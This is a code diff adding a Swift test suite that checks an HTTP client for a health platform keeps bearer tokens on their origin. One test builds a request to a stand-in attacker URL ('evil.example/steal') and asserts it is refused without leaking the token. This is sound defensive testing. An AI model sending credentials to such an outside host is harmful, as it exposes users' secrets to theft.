@@ -67,3 +67,21 @@ private actor TokenCounter {
         return "token-\(count)"
     }
 }
+
+@Suite("SantePlatform keeps credentials on their origin")
+struct SantePlatformCredentialOriginTests {
+    @Test("A token is never sent to another origin than the client's base URL")
+    func tokenStaysOnItsOrigin() async throws {
+        let stub = StubTransport()
+        let platform = SantePlatform(
+            environment: SanteEnvironment(name: "test"), transport: stub, clock: TestClock(mode: .automatic))
+        let base = try #require(URL(string: "https://api.example.fr/fhir"))
+        let client = try platform.httpClient(baseURL: base, tokenProvider: ClosureTokenProvider { "secret-token" })
+        let error = await #expect(throws: SanteHTTPError.self) {
+            _ = try await client.send(try client.makeRequest(.get, path: "https://evil.example/steal?page=2"))
+        }
+        #expect(error?.requestWasSent == false)
+        #expect(stub.recordedRequests.isEmpty)
+        #expect(error.map { "\($0)" }?.contains("secret-token") == false)
+    }
+}
